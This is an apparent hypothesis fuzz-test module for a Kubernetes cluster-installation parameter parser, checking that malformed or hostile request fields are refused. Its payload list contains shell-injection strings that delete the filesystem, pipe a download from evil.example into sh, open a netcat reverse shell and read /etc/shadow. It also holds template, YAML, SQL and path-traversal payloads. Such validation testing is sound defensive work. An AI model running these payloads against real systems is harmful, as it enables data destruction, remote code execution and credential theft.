"""Property-based tests: every malformed ``additionalParams`` is refused.

Each example starts from a valid request (the samples, and the shapes of
:mod:`tests.unit.params_data`) and applies one to four mutations: a
required key deleted, a value of the wrong type, a malformed value (IP
address, CIDR, port, path, proxy URL, version, port range, role), a
hostile string (shell and template metacharacters, quotes, control
characters, huge values), a misspelled or unknown key, a bad label or
extra var, a broken ``nodes`` list, or values valid alone but in conflict
(overlapping networks, the API port inside the NodePort range, an
inventory over the kubespray checkout).  Each mutation is malformed by
construction, whatever the mutations before it did.

The properties:

* :func:`mgmt_driver.model.params.parse_params` (and ``parse_for_operation``
  for scale and heal overrides) raises only ``ParamsInvalid`` or
  ``ParamsNotFound``, whose message names the mutated field under
  ``k8s_cluster_installation_param``;
* the real :class:`mgmt_driver.adapters.v1.LcmHooks` refuse the same requests
  before they ask for a connection pool, a Heat client or the VIM
  registry;
* random JSON trees may be valid, but when they are not, only those two
  exceptions come out.

``KMGMT_FUZZ_EXAMPLES`` is the number of mutated requests the module
tries in total (default 2000, about 8 s; ``tox -e fuzz``: 20000).  With
``KMGMT_FUZZ_SEED`` unset every run tries the same examples; ``random``
draws new ones, an integer replays one random run.  ``pytest -s`` prints
the counts at the end.
"""

import collections
import copy
import functools
import ipaddress
import os
import posixpath
import re
import types

import hypothesis
import pytest
from hypothesis import strategies as st
from oslo_config import cfg

from mgmt_driver.adapters import v1
from mgmt_driver.common import conf as kconf
from mgmt_driver.common import exceptions
from mgmt_driver.common import tacker_compat
from mgmt_driver.model import core
from mgmt_driver.model import merging
from mgmt_driver.model import params
from mgmt_driver.state import records
from tests.fakes import FakePool
from tests.unit import params_data

ROOT = core.ROOT

DEFAULT_EXAMPLES = 2000
EXAMPLES = int(os.environ.get('KMGMT_FUZZ_EXAMPLES') or DEFAULT_EXAMPLES)
SEED = os.environ.get('KMGMT_FUZZ_SEED', '').strip()

#: The share of EXAMPLES each test of mutated requests gets.
SHARES = {
    'test_parser_refuses_mutated_requests': 0.45,
    'test_parser_refuses_mutated_overrides': 0.10,
    'test_instantiate_end_refuses_before_any_connection': 0.25,
    'test_operation_hooks_refuse_before_any_connection': 0.20,
}
RANDOM_TEST = 'test_random_trees_give_a_spec_or_our_errors'
RANDOM_SHARE = 0.10  # on top of EXAMPLES; counted only when refused

#: test name -> malformed requests refused (all of them, or it failed).
REFUSED = collections.Counter()
#: test name -> random requests parse_params accepted.
ACCEPTED = collections.Counter()
#: field (indices as [], label and extra var names as *) -> mutations.
FIELDS_HIT = collections.Counter()

# Regressions the fuzzer found in params.py (issue 8), fixed and kept as
# plain cases in test_found_bugs_stay_fixed: '$' matching before a final
# newline in label and variable names; an empty label prefix ('/app');
# non-ASCII digits in kubespray.version; DEL in no_proxy;
# kube_network_node_prefix out of 1-32; integers beyond 4300 digits,
# whose repr() raises ValueError.  Only Python callers can send those
# integers (JSON and YAML decoders refuse them): the strategies stay far
# below.
_INTS = st.integers(min_value=-10 ** 30, max_value=10 ** 30)


# ------------------------------------------------------------ the fields

TEXT, USER, IP, CIDR4, CIDR, PORT, FORKS, URL, NO_PROXY = (
    'text', 'user', 'ip', 'cidr4', 'cidr', 'port', 'forks', 'url',
    'no_proxy')
LOCAL_PATH, REMOTE_PATH, PACKAGE_PATH, VERSION, RANGE, ROLE, BOOL = (
    'local_path', 'remote_path', 'package_path', 'version', 'range',
    'role', 'bool')
VRID = 'vrid'
SECTION, LABELS, EXTRA_VARS, NODES, ENTRY = (
    'section', 'labels', 'extra_vars', 'nodes', 'entry')
TAINTS = 'taints'
POOLS, POOL_NODES = 'pools', 'pool_nodes'

_ROLE_FIELDS = {'aspect_id': TEXT, 'ssh_cp_name': TEXT, 'nic_cp_name': TEXT,
                'username': USER, 'password': TEXT,
                'ssh_key_file': LOCAL_PATH, 'port': PORT,
                'become_password': TEXT, 'passwordless_sudo': BOOL,
                'labels': LABELS, 'taints': TAINTS}
#: section path -> {key: kind}: every key parse_params reads.
FIELDS = {
    (): {'vim_name': TEXT, 'master_node': SECTION, 'worker_node': SECTION,
         'proxy': SECTION, 'ansible': SECTION, 'external_lb_param': SECTION,
         'script_path': PACKAGE_PATH, 'kubespray': SECTION, 'nodes': NODES,
         'node_pools': POOLS},
    ('master_node',): dict(_ROLE_FIELDS, pod_cidr=CIDR4, cluster_cidr=CIDR4,
                           cluster_cp_name=TEXT),
    ('worker_node',): dict(_ROLE_FIELDS),
    ('proxy',): {'http_proxy': URL, 'https_proxy': URL,
                 'no_proxy': NO_PROXY, 'k8s_node_cidr': CIDR},
    ('ansible',): {'ip_address': IP, 'username': USER, 'password': TEXT,
                   'ssh_key_file': LOCAL_PATH, 'port': PORT,
                   'kubespray_root_path': REMOTE_PATH,
                   'transferring_inventory_path': REMOTE_PATH},
    ('external_lb_param',): {
        'ssh_cp_name': TEXT, 'nic_cp_name': TEXT, 'ssh_username': USER,
        'ssh_password': TEXT, 'ssh_key_file': LOCAL_PATH, 'ssh_port': PORT,
        'script_path': PACKAGE_PATH, 'api_port': PORT,
        'nodeport_range': RANGE, 'vip': IP, 'vip_cp_name': TEXT,
        'vrrp_router_id': VRID, 'vrrp_password': TEXT, 'aspect_id': TEXT,
        'become_password': TEXT, 'passwordless_sudo': BOOL},
    ('kubespray',): {'extra_vars': EXTRA_VARS, 'forks': FORKS,
                     'version': VERSION, 'reset_on_terminate': BOOL},
}
NODE_FIELDS = {'role': ROLE, 'ssh_ip': IP, 'nic_ip': IP, 'ssh_port': PORT,
               'pool': TEXT}
#: The keys of each ``node_pools`` entry (the pool names are free).
POOL_FIELDS = {'aspect_id': TEXT, 'ssh_cp_name': TEXT, 'nic_cp_name': TEXT,
               'nodes': POOL_NODES, 'labels': LABELS, 'taints': TAINTS}
#: Keys that are required whatever the rest of the request says.
REQUIRED = {
    (): ('master_node', 'worker_node', 'ansible', 'external_lb_param'),
    ('master_node',): ('username',),
    ('worker_node',): ('username',),
    ('ansible',): ('ip_address', 'username', 'kubespray_root_path',
                   'transferring_inventory_path'),
    ('external_lb_param',): ('ssh_username',),
}
PASSWORD_KEY = {('master_node',): 'password', ('worker_node',): 'password',
                ('ansible',): 'password',
                ('external_lb_param',): 'ssh_password'}
CP_NAME_SECTIONS = (('master_node',), ('worker_node',),
                    ('external_lb_param',))
OVERRIDABLE = merging.OVERRIDABLE_SECTIONS
# Sections whose keys override mutations write into; node_pools overrides
# (pool by pool) are tested in test_node_pools.
OVERRIDE_SECTIONS = tuple(name for name in OVERRIDABLE
                          if name != 'node_pools')
_STR_KINDS = (TEXT, USER, IP, CIDR4, CIDR, URL, LOCAL_PATH, REMOTE_PATH,
              PACKAGE_PATH, VERSION, RANGE, ROLE)
_ALL_KEYS = sorted({key for fields in FIELDS.values() for key in fields} |
                   set(NODE_FIELDS) | set(POOL_FIELDS))
MISSING = object()


class At(int):
    """A list index in a field path (``nodes[2]``)."""


def key_text(key):
    """A key as params shows it in a path: its repr, unquoted, cut at 60."""
    text = repr(key)
    if len(text) > 60:
        text = text[:56] + '...' + text[-1]
    return text[1:-1] if isinstance(key, str) else text


def path_text(path):
    """``('nodes', At(1), 'ssh_ip')`` -> ``'<ROOT>.nodes[1].ssh_ip'``."""
    text = ROOT
    for key in path:
        text += '[%d]' % key if isinstance(key, At) else '.' + key_text(key)
    return text


def field_of(path):
    """The field a path belongs to, for the coverage count."""
    parts = []
    for key in path:
        if parts and parts[-1] in ('labels', 'extra_vars'):
            parts.append('*')
            break
        if parts == ['node_pools']:  # a pool's name
            parts.append('*')
            continue
        parts.append('[]' if isinstance(key, At) else str(key))
    return '.'.join(parts)


def given(data, key):
    """What ``Section.given`` says: present and neither null nor ''."""
    return isinstance(data, dict) and data.get(key, None) not in (None, '')


def lookup(tree, path):
    node = tree
    for key in path:
        if isinstance(key, At):
            if not isinstance(node, list) or key >= len(node):
                return MISSING
        elif not isinstance(node, dict) or key not in node:
            return MISSING
        node = node[key]
    return node


def put(tree, path, value):
    """Set *path* in *tree*, making mappings of absent sections."""
    node = tree
    for index, key in enumerate(path[:-1]):
        kind = list if isinstance(path[index + 1], At) else dict
        if not isinstance(key, At) and not isinstance(node.get(key), kind):
            node[key] = kind()
        node = node[key]
    node[path[-1]] = value


def pop(tree, path):
    lookup(tree, path[:-1]).pop(path[-1], None)


# ------------------------------------------------------ the valid bases

@functools.cache
def _sample(name):
    return params_data.sample(name)


def _with_nodes(additional_params, worker_pool=None):
    nodes = [{'role': 'master', 'ssh_ip': '192.168.10.11',
              'nic_ip': '10.10.0.11'},
             {'role': 'worker', 'ssh_ip': '192.168.10.21',
              'nic_ip': '10.10.0.21'},
             {'role': 'worker', 'ssh_ip': '192.168.10.22',
              'nic_ip': '10.10.0.22', 'ssh_port': 2222},
             {'role': 'external_lb', 'ssh_ip': '192.168.10.40'}]
    if worker_pool:
        nodes[2]['pool'] = worker_pool
    additional_params[ROOT]['nodes'] = nodes
    return additional_params


#: name -> a fresh valid ``additionalParams`` (need_cp_names=True).
BASES = {
    'tacker_sample': params_data.tacker_sample,
    'simple': lambda: copy.deepcopy(_sample('instantiate_simple.json')),
    'ha': lambda: copy.deepcopy(_sample('instantiate_ha.json')),
    'keyauth': lambda: copy.deepcopy(_sample('instantiate_keyauth.json')),
    'pools': lambda: copy.deepcopy(_sample('instantiate_node_pools.json')),
    'pools_nodes': lambda: _with_nodes(
        copy.deepcopy(_sample('instantiate_node_pools.json')),
        worker_pool='dpdk'),
    'simple_nodes': lambda: _with_nodes(
        copy.deepcopy(_sample('instantiate_simple.json'))),
    'minimal_nodes': lambda: _with_nodes(params_data.minimal()),
}
#: Valid scale and heal overrides (the samples' and none).
OVERRIDES = ({}, {'worker_node': {'username': 'ubuntu', 'password': 'x'}},
             {'ansible': {'username': 'ubuntu', 'password': 'y'}},
             {'external_lb_param': {'ssh_port': 2200, 'api_port': 6443}})

# ---------------------------------------------------------- bad values

_CONTROL = ('\n', '\r', '\r\n', '\x00', '\t', '\x0b', '\x0c', '\x1b', '\x7f')
# What _no_proxy refuses inside an entry ('\x7f' is not: test_known_bugs).
_BLANK = ('\n', '\r', '\x00', '\t', ' ', '\x0b', '\x1b')
# Each starts with a character no valid typed value starts with.
_PAYLOADS = (
    ';', '; rm -rf / #', '$(reboot)', '`id`', "'", '"',
    "'; DROP TABLE vnf_instances; --", '&& curl http://evil.example | sh',
    '| nc -e /bin/sh evil.example 4444', '> /etc/passwd',
    '${IFS}cat${IFS}/etc/shadow', '\\', '$HOME', '*',
    '{{ lookup("pipe", "id") }}', '{% raw %}', '%(password)s', '%s%s%n',
    '!!python/object/apply:os.system ["id"]', '<script>alert(1)</script>',
    '-oProxyCommand=sh', '--become', '#', '(', ')', ',')

_TEXTS = st.text(max_size=12)
_FLOATS = st.floats()
_SCALARS = st.one_of(st.none(), st.booleans(), _INTS, _FLOATS, _TEXTS)


def _containers(inner, keys=_TEXTS, size=3):
    # A named function: hypothesis misreads a multi-line lambda as one
    # that ignores its argument (HypothesisDeprecationWarning).
    return st.lists(inner, max_size=size) | st.dictionaries(
        keys, inner, max_size=size)


_SMALL_JSON = st.recursive(_SCALARS, _containers, max_leaves=5)
_HUGE = st.integers(1000, 200000).map(lambda n: 'A' * n)
_NONEMPTY_TEXT = st.text(min_size=1, max_size=20) | _HUGE
_LISTS = st.lists(_SMALL_JSON, max_size=3)
_DICTS = st.dictionaries(_TEXTS, _SMALL_JSON, max_size=3)

#: base type -> values that are not of that type (nor null, nor '').
WRONG = {
    'str': st.one_of(_INTS, _FLOATS, st.booleans(), _LISTS, _DICTS),
    'int': st.one_of(_NONEMPTY_TEXT, _FLOATS, st.booleans(), _LISTS,
                     _DICTS),
    'bool': st.one_of(_NONEMPTY_TEXT, _INTS, _FLOATS, _LISTS, _DICTS),
    'dict': st.one_of(_NONEMPTY_TEXT, _INTS, _FLOATS, st.booleans(),
                      _LISTS),
    'list': st.one_of(_NONEMPTY_TEXT, _INTS, _FLOATS, st.booleans(),
                      _DICTS),
    'no_proxy': st.one_of(
        _INTS, _FLOATS, st.booleans(), _DICTS,
        st.tuples(st.lists(_TEXTS, max_size=2),
                  _SCALARS.filter(lambda v: not isinstance(v, str)))
        .map(lambda t: t[0] + [t[1]])),
    'entry': st.one_of(st.none(), _NONEMPTY_TEXT, _INTS, _FLOATS,
                       st.booleans(), _LISTS),
}
BASE_TYPE = dict.fromkeys(_STR_KINDS, 'str')
BASE_TYPE.update({PORT: 'int', FORKS: 'int', VRID: 'int', BOOL: 'bool',
                  SECTION: 'dict',
                  LABELS: 'dict', EXTRA_VARS: 'dict', NODES: 'list',
                  TAINTS: 'list', POOLS: 'dict', POOL_NODES: 'list',
                  NO_PROXY: 'no_proxy', ENTRY: 'entry'})


@st.composite
def hostile(draw, must=(), pad=True):
    """A payload, random tail, maybe a *must* character, maybe huge."""
    text = draw(st.sampled_from(_PAYLOADS)) + draw(_TEXTS)
    extra = must or (_CONTROL if draw(st.booleans()) else ())
    if extra:
        at = draw(st.integers(0, len(text)))
        text = text[:at] + draw(st.sampled_from(extra)) + text[at:]
    if pad and draw(st.integers(0, 7)) == 0:
        text += draw(_HUGE)
    return text


def _no_proxy_hostile():
    # Entries are stripped: the blank goes between two other characters.
    return st.tuples(hostile(pad=False), st.sampled_from(_BLANK)).map(
        lambda t: '%sx%sy' % t)


#: kind -> a hostile string that is malformed for that kind.
HOSTILE = {kind: hostile() for kind in _STR_KINDS}
HOSTILE.update({
    TEXT: hostile(must=_CONTROL),
    NO_PROXY: _no_proxy_hostile(),
    PACKAGE_PATH: st.tuples(st.sampled_from(('../', '/', 'a/../../')),
                            hostile()).map(''.join),
})


def _valid_user(text):
    return re.fullmatch(r'[A-Za-z_][A-Za-z0-9_.-]{0,31}', text) is not None


def _valid_ip(text):
    try:
        ipaddress.ip_address(text)
    except ValueError:
        return False
    return '%' not in text and not re.search('[\x00-\x1f\x7f]', text)


@st.composite
def _host_bits(draw, version=4):
    bits = 32 if version == 4 else 128
    prefix = draw(st.integers(0, bits - 1))
    net = draw(st.integers(0, 2 ** prefix - 1)) << (bits - prefix)
    host = 1 << draw(st.integers(0, bits - prefix - 1))
    address = (ipaddress.IPv4Address if version == 4 else
               ipaddress.IPv6Address)(net | host)
    return '%s/%d' % (address, prefix)


_CIDR_SYNTAX = ('10.0.0.0/33', '10.0.0.0/-1', '10.0.0.0/', '/24',
                '300.0.0.0/8', '10.0.0.0/8/8', '10.0.0/24', ' 10.0.0.0/24',
                '10.0.0.0/24 ', '10.0.0.0/255.0.255.0', 'fd00::/129',
                'fd00::1/64', 'default', '10.0.0.0-10.0.0.255',
                '10.0.0.0/24,10.1.0.0/24', '10.0.0.0\\24', 'any')

#: kind -> malformed values (mostly of the right type).
BAD = {
    TEXT: st.tuples(_TEXTS, st.sampled_from(_CONTROL), _TEXTS).map(
        ''.join),
    USER: st.sampled_from(('1ubuntu', 'ubuntu user', 'a' * 33, '-root',
                           'root;id', 'üser', '.hidden', 'ubuntu ',
                           'a@b', 'root:x')) |
    st.text(min_size=1, max_size=40).filter(lambda s: not _valid_user(s)),
    IP: st.sampled_from(('10.0.0.256', '1.2.3', '1.2.3.4.5', '::g',
                         'fe80::1%eth0', '10.0.0.1/24', ' 10.0.0.1',
                         '010.0.0.1', 'localhost', '10.0.0.1:22',
                         '0x0a000001', '[::1]', '10,0,0,1')) |
    st.text(min_size=1, max_size=30).filter(lambda s: not _valid_ip(s)),
    CIDR4: st.sampled_from(_CIDR_SYNTAX + ('fd00::/64', '::/0',
                                           '2001:db8::/32')) |
    _host_bits(4),
    CIDR: st.sampled_from(_CIDR_SYNTAX) | _host_bits(4) | _host_bits(6),
    PORT: st.sampled_from((0, -1, 65536, 70000, 10 ** 6, -65535)) |
    st.integers(-10 ** 30, 0) | st.integers(65536, 10 ** 30),
    FORKS: st.sampled_from((0, -1, 501, 10 ** 9)) |
    st.integers(-10 ** 30, 0) | st.integers(501, 10 ** 30),
    VRID: st.sampled_from((0, -1, 256, 10 ** 6)) |
    st.integers(-10 ** 30, 0) | st.integers(256, 10 ** 30),
    URL: st.sampled_from((
        'ftp://proxy:21', 'socks5://proxy:1080', 'proxy:3128',
        '//proxy:3128', 'http://', 'http://:3128', 'http:/proxy',
        'http://proxy:0', 'http://proxy:65536', 'http://proxy:port',
        'http://proxy:-1', 'http://pro xy:3128', 'http://[::1:3128',
        'https//proxy', 'http:\\\\proxy', 'file:///etc/passwd',
        'javascript:alert(1)', 'http://user:pa ss@proxy:3128',
        'http://proxy:3128 ', 'proxy.example.com')),
    NO_PROXY: st.sampled_from(('a b', 'host1, host 2.example.com', 'x\ty',
                               'ok,bad entry', 'a\x00b', 'a\nb')),
    LOCAL_PATH: st.sampled_from((
        'keys/../../id_rsa', '../id_rsa', './id_rsa', '~root/.ssh/id_rsa',
        '~', '..', 'C:\\keys\\id_rsa', 'file:///etc/tacker/key',
        'keys\\id_rsa', ' /etc/tacker/key')),
    REMOTE_PATH: st.sampled_from((
        'kubespray', '../kubespray', './kubespray', '~/kubespray', '~',
        '..', '.', 'home/ubuntu/kubespray', ' /opt/kubespray',
        '\\opt\\kubespray')),
    PACKAGE_PATH: st.sampled_from((
        '/etc/passwd', '/', '../../etc/passwd', '..',
        'Scripts/../../install.sh', '..\\..\\install.sh',
        'Scripts\\..\\..\\x.sh', '/Scripts/install.sh', 'Scripts/../..')),
    VERSION: st.sampled_from((
        '2.15.0', '2.15', '1.0', '2', '0.0.0', 'latest', 'master', 'v2.x',
        '2.24.0.1', '2.24-rc1', 'release-2.24', 'v', 'vv2.24.0', '2..24',
        '.2.24', '2.24.', 'v 2.24')),
    RANGE: st.sampled_from((
        '32767-30000', '0-100', '1-65536', '0-0', '30000', '30000:32767',
        'a-b', '-1-5', '30000 - 32767', '100000-100001', '30000-',
        '-32767', '30000--32767', '30000-32767-1')),
    ROLE: st.sampled_from(('Master', 'masters', 'lb', 'LB', 'externalLB',
                           'external-lb', 'WORKER', 'etcd', 'master ',
                           ' worker', 'control-plane')) |
    st.text(min_size=1, max_size=12).filter(
        lambda s: s not in core.ROLES),
    BOOL: st.sampled_from(('true', 'false', 'yes', 'no', 'True', 1, 0, 1.0,
                           0.0)),
    # A list with one malformed key=value:Effect taint among good ones.
    TAINTS: st.tuples(
        st.lists(st.just('pool=a:NoSchedule'), max_size=2),
        st.sampled_from((
            'a=b', 'a=b:Never', '=b:NoSchedule', 'a b=c:NoSchedule',
            'a=b c:NoSchedule', 'a=b:NoSchedule\n', 'a\n=b:NoSchedule',
            '/a=b:NoSchedule', '', ':NoSchedule', 5, None, [], {}))).map(
        lambda t: t[0] + [t[1]]),
    # A node pool's list with one entry that is neither a node name nor
    # an address, or no entry at all.
    POOL_NODES: st.tuples(
        st.lists(st.just('worker-10-10-0-21'), max_size=1),
        st.sampled_from((
            'lb-10-10-0-40', 'Worker-10-10-0-21', 'worker_10', 'node-1',
            'worker-', '10.10.0.256', 'fe80::1%eth0', '', 5, None, [],
            'worker-' + 'a' * 60))).map(lambda t: t[0] + [t[1]]) |
    st.just([]),
}

_BAD_LABEL_KEYS = (
    '-app', 'app-', '_app', 'a' * 64, 'app name', 'Example.com/app',
    'example..com/app', 'example.com/', '/', '//app', 'a/b/c',
    'ex_ample.com/app', 'a.' * 127 + 'com/app', 'kubernetes.io/role',
    'node-role.kubernetes.io/master', 'k8s.io/x', 'sub.k8s.io/x', 'ä',
    'app:1', '', 7, '/app')
_BAD_LABEL_VALUES = ('-x', 'x-', 'a' * 64, 'two words', 'ä', 'a/b', '.x',
                     1, True, None, 1.5, [], {})
_NEWLINE_LABELS = (('app\n', 'x'), ('app', 'x\n'), ('example.com\n/app', 'x'))
BAD_LABEL = st.one_of(
    st.tuples(st.sampled_from(_BAD_LABEL_KEYS), st.just('x')),
    st.tuples(st.sampled_from(('tier', 'example.com/tier')),
              st.sampled_from(_BAD_LABEL_VALUES)),
    st.tuples(hostile(pad=False), st.just('x')),
    st.tuples(st.just('tier'), hostile()),
    st.sampled_from(_NEWLINE_LABELS))

_DERIVED_VARS = ('kube_pods_subnet', 'kube_service_addresses', 'http_proxy',
                 'https_proxy', 'no_proxy', 'loadbalancer_apiserver',
                 'apiserver_loadbalancer_domain_name',
                 'kube_apiserver_node_port_range', 'node',
                 'skip_confirmation', 'delete_nodes_confirmation',
                 'reset_nodes', 'allow_ungraceful_removal')
_CONNECTION_VARS = ('ansible_password', 'ansible_user', 'ansible_host',
                    'ansible_ssh_private_key_file', 'ansible_become_pass',
                    'ansible_port', 'ansible_ssh_common_args',
                    'ansible_python_interpreter')
_TYPED_VARS = {'kube_version': 'str', 'kube_network_plugin': 'str',
               'container_manager': 'str', 'kube_proxy_mode': 'str',
               'dns_domain': 'str', 'kube_network_node_prefix': 'int',
               'calico_mtu': 'int', 'calico_veth_mtu': 'int',
               'supplementary_addresses_in_ssl_keys': 'list',
               'helm_enabled': 'bool', 'metrics_server_enabled': 'bool'}
_BAD_VAR_NAMES = ('1abc', 'a-b', 'a b', '', 'a.b', 'ä', '$(id)', 'x;y',
                  '{{x}}', 7, 'kube version')
_NOT_DATA = ((1, 2), b'bytes', {1: 'a'}, {'a': {2: 'b'}}, [1, (2,)],
             frozenset({1}))
BAD_VAR = st.one_of(
    st.tuples(st.sampled_from(_BAD_VAR_NAMES), _SMALL_JSON),
    st.tuples(hostile(pad=False), _SMALL_JSON),
    st.tuples(st.sampled_from(_DERIVED_VARS + _CONNECTION_VARS),
              _SMALL_JSON),
    st.sampled_from(sorted(_TYPED_VARS)).flatmap(
        lambda name: st.tuples(st.just(name), WRONG[_TYPED_VARS[name]])),
    st.tuples(st.sampled_from(('my_var', 'helm_enabled')),
              st.sampled_from(_NOT_DATA)),
    st.tuples(st.just('foo\n'), _SMALL_JSON))


# ------------------------------------------------------------ mutations

class Ctx:
    """What a mutation works on, and what the mutations did.

    :param target: the ``k8s_cluster_installation_param`` mapping that
        the mutations change.
    :param instantiated: for an override, the instantiated mapping it is
        laid over (read, never changed); None otherwise.
    """

    def __init__(self, target, instantiated=None):
        self.target = target
        self.instantiated = instantiated
        self.paths = []

    @property
    def override(self):
        return self.instantiated is not None

    def view(self):
        """The mapping parse_params will see (merged for an override)."""
        if not self.override:
            return self.target
        merged = copy.deepcopy(self.instantiated)
        for name, section in self.target.items():
            if name in OVERRIDE_SECTIONS and isinstance(section, dict):
                if isinstance(merged.get(name), dict):
                    merged[name].update(section)
                else:
                    merged[name] = dict(section)
        return merged

    def sections(self):
        """Section paths the mutations may write into."""
        if self.override:
            return [(name,) for name in OVERRIDE_SECTIONS]
        return list(FIELDS)

    def done(self, path):
        self.paths.append(path)
        return True


def _writable(view, section):
    """True if a key can be set under *section* (a mapping, or absent)."""
    if section == ():
        return True
    value = lookup(view, section)
    return value is MISSING or value in (None, '') or isinstance(
        value, dict)


def leaves(ctx, kinds=None):
    """``(path, kind)`` of every field a mutation may set now."""
    view = ctx.view()
    found = []
    for section in ctx.sections():
        if _writable(view, section):
            found += [(section + (key,), kind)
                      for key, kind in FIELDS[section].items()]
    if ctx.override:
        found += [((name,), SECTION) for name in OVERRIDABLE]
    nodes = view.get('nodes')
    if not ctx.override and isinstance(nodes, list):
        for index, entry in enumerate(nodes):
            found.append((('nodes', At(index)), ENTRY))
            if isinstance(entry, dict):
                found += [(('nodes', At(index), key), kind)
                          for key, kind in NODE_FIELDS.items()]
    found += [(path + (key,), kind) for path, _ in _pools(ctx, view)
              for key, kind in POOL_FIELDS.items()]
    return [leaf for leaf in found if kinds is None or leaf[1] in kinds]


def _pools(ctx, view):
    """``(path, mapping)`` of each ``node_pools`` entry of *view*."""
    pools = view.get('node_pools')
    if ctx.override or not isinstance(pools, dict):
        return []
    return [(('node_pools', name), pool) for name, pool in pools.items()
            if isinstance(pool, dict)]


def required_paths(ctx):
    """Required keys present now, whose deletion is a malformation."""
    view = ctx.view()
    found = [] if ctx.override else [
        (key,) for key in REQUIRED[()] if given(view, key)]
    for section in ctx.sections():
        data = lookup(view, section)
        if section == () or not isinstance(data, dict):
            continue
        keys = list(REQUIRED.get(section, ()))
        if section in PASSWORD_KEY and not given(data, 'ssh_key_file'):
            keys.append(PASSWORD_KEY[section])  # no default key file
        if section in CP_NAME_SECTIONS and not given(view, 'nodes'):
            keys.append('ssh_cp_name')
        found += [section + (key,) for key in keys if given(data, key)]
    nodes = view.get('nodes')
    if not ctx.override and isinstance(nodes, list):
        found += [('nodes', At(index), key)
                  for index, entry in enumerate(nodes)
                  for key in ('role', 'ssh_ip') if given(entry, key)]
    return found


def m_delete(draw, ctx):
    choices = required_paths(ctx)
    if not choices:
        return False
    path = draw(st.sampled_from(choices))
    how = draw(st.sampled_from((None, '') if ctx.override else
                               ('pop', None, '')))
    if how == 'pop':
        pop(ctx.target, path)
    else:
        put(ctx.target, path, how)
    return ctx.done(path)


def m_wrong_type(draw, ctx):
    path, kind = draw(st.sampled_from(leaves(ctx)))
    put(ctx.target, path, draw(WRONG[BASE_TYPE[kind]]))
    return ctx.done(path)


def m_bad_value(draw, ctx):
    path, kind = draw(st.sampled_from(leaves(ctx, BAD)))
    put(ctx.target, path, draw(BAD[kind]))
    return ctx.done(path)


def m_hostile(draw, ctx):
    path, kind = draw(st.sampled_from(leaves(ctx, HOSTILE)))
    put(ctx.target, path, draw(HOSTILE[kind]))
    return ctx.done(path)


def _sections_with_keys(ctx):
    """``(path, mapping, known keys)`` of the target's mappings."""
    target = ctx.target
    found = [((), target, OVERRIDABLE if ctx.override else FIELDS[()])]
    for section in ctx.sections():
        data = lookup(target, section)
        if section != () and isinstance(data, dict):
            found.append((section, data, FIELDS[section]))
    nodes = target.get('nodes')
    if not ctx.override and isinstance(nodes, list):
        found += [(('nodes', At(index)), entry, NODE_FIELDS)
                  for index, entry in enumerate(nodes)
                  if isinstance(entry, dict)]
    found += [(path, pool, POOL_FIELDS) for path, pool in _pools(ctx, target)]
    return found


@st.composite
def typo(draw, key):
    at = draw(st.integers(0, len(key) - 1))
    how = draw(st.sampled_from(('drop', 'double', 'swap', 'upper', 'dash',
                                'space', 'plural', 'insert')))
    if how == 'drop':
        return key[:at] + key[at + 1:]
    if how == 'double':
        return key[:at] + key[at] + key[at:]
    if how == 'swap':
        return key[:at] + key[at + 1:at + 2] + key[at] + key[at + 2:]
    if how == 'upper':
        return key[:at] + key[at].upper() + key[at + 1:]
    if how in ('dash', 'space'):
        return key.replace('_', '-' if how == 'dash' else ' ')
    if how == 'plural':
        return key + 's'
    return key[:at] + draw(st.characters()) + key[at:]


def _unused(name, known, data):
    while name in known or name in data:
        name += '_'
    return name


def m_misspell(draw, ctx):
    choices = [(path, key) for path, data, known in _sections_with_keys(ctx)
               for key in data if key in known]
    if not choices:
        return False
    path, key = draw(st.sampled_from(choices))
    data = lookup(ctx.target, path)
    known = OVERRIDABLE if ctx.override and path == () else (
        NODE_FIELDS if path[:1] == ('nodes',) else
        POOL_FIELDS if path[:1] == ('node_pools',) else FIELDS[path])
    name = _unused(draw(typo(key)), known, data)
    data[name] = data.pop(key)
    return ctx.done(path + (name,))


def m_unknown_key(draw, ctx):
    path, data, known = draw(st.sampled_from(_sections_with_keys(ctx)))
    names = st.text(min_size=1, max_size=15) | hostile()
    if ctx.override and path == ():
        names = st.sampled_from(sorted(set(FIELDS[()]) - set(OVERRIDABLE)))
    name = _unused(draw(names), known, data)
    data[name] = draw(_SMALL_JSON)
    return ctx.done(path + (name,))


def _net(data, key, default, ipv4_only=True):
    """The network params will read for *key*, or None if invalid."""
    value = data.get(key)
    if value in (None, ''):
        return None if default is None else ipaddress.ip_network(default)
    if not isinstance(value, str) or re.search('[\x00-\x1f\x7f]', value):
        return None
    try:
        net = ipaddress.ip_network(value)
    except ValueError:
        return None
    return net if net.version == 4 or not ipv4_only else None


def _node_prefix(view):
    kubespray = view.get('kubespray')
    extra = kubespray.get('extra_vars') if isinstance(kubespray, dict) \
        else None
    prefix = extra.get('kube_network_node_prefix') if isinstance(
        extra, dict) else None
    if isinstance(prefix, int) and not isinstance(prefix, bool):
        return prefix
    return core.DEFAULT_NODE_PREFIX


@st.composite
def overlapping(draw, net):
    """A network that overlaps *net*: itself, a subnet or a supernet."""
    shift = draw(st.integers(-net.prefixlen, 32 - net.prefixlen))
    if shift < 0:
        return net.supernet(prefixlen_diff=-shift)
    prefix = net.prefixlen + shift
    index = draw(st.integers(0, 2 ** shift - 1))
    address = int(net.network_address) + index * 2 ** (32 - prefix)
    return ipaddress.ip_network((address, prefix))


def m_networks(draw, ctx):
    view = ctx.view()
    master = view.get('master_node')
    if ctx.override or not isinstance(master, dict):
        return False
    pod = _net(master, 'pod_cidr', core.DEFAULT_POD_CIDR)
    service = _net(master, 'cluster_cidr', core.DEFAULT_SERVICE_CIDR)
    choices = []
    if pod is not None:
        choices.append(('master_node', 'cluster_cidr'))
    if _writable(view, ('proxy',)):
        choices += [('proxy', 'k8s_node_cidr', net)
                    for net in (pod, service) if net is not None]
    if _node_prefix(view) <= 32:
        choices.append(('master_node', 'pod_cidr'))
    if not choices:
        return False
    choice = draw(st.sampled_from(choices))
    path = choice[:2]
    if path == ('master_node', 'cluster_cidr'):
        value = draw(overlapping(pod))
    elif path == ('master_node', 'pod_cidr'):
        prefix = draw(st.integers(max(_node_prefix(view), 0), 32))
        value = ipaddress.ip_network(
            (draw(st.integers(0, 2 ** 32 - 1)), prefix), strict=False)
    else:
        value = draw(overlapping(choice[2]))
    put(ctx.target, path, str(value))
    return ctx.done(path)


def _api_port(lb):
    value = lb.get('api_port')
    if value in (None, ''):
        return core.DEFAULT_API_PORT
    if isinstance(value, int) and not isinstance(value, bool) and \
            1 <= value <= 65535:
        return value
    return None


def _nodeport_range(lb):
    value = lb.get('nodeport_range')
    if value in (None, ''):
